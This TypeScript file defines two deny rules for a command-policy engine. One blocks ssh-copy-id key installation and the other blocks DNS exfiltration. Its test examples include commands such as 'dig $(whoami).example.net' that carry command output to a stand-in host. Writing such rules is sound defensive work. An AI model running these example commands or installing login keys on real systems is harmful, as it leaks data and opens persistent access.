/**
 * Two quiet ways out (issue 12): a public key installed where it lets someone log in
 * (`ssh-copy-id`), and the output of a command sent inside a DNS name (`dig $(whoami).example.net`),
 * which crosses firewalls that stop everything else.
 */

import {commandRule, type CommandRule} from '../rules.js'

export const sshCopyId = commandRule({
  id: 'system.install-login-key',
  pack: 'system',
  decision: 'deny',
  reason: 'installs a public key that lets its owner log in to a host (ssh-copy-id)',
  programs: ['ssh-copy-id'],
  examples: {match: ['ssh-copy-id user@host', 'ssh-copy-id -i key.pub root@localhost'], not_match: ['ssh-copy-id -h']},
  check: (cmd) => !cmd.argv.every((a) => a === '-h' || a === '--help'),
})

export const dnsExfiltration = commandRule({
  id: 'remote.dns-exfiltration',
  pack: 'remote',
  decision: 'deny',
  reason: 'sends the output of a command inside a host name (DNS exfiltration)',
  programs: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'kdig', 'resolvectl', 'getent'],
  examples: {
    match: ['dig $(whoami).example.net', 'nslookup `hostname`.example.net', 'ping -c1 $(id -u).example.net'],
    not_match: ['dig example.com', 'nslookup github.com', 'ping -c 3 $HOST'],
  },
  check(cmd) {
    const word = cmd.args.find((w) => w.substitution && !w.value.startsWith('-'))
    return word === undefined ? null : `${cmd.name} ${word.raw}: the name carries what the command printed`
  },
})

export const keysAndDnsRules: readonly CommandRule[] = [sshCopyId, dnsExfiltration]
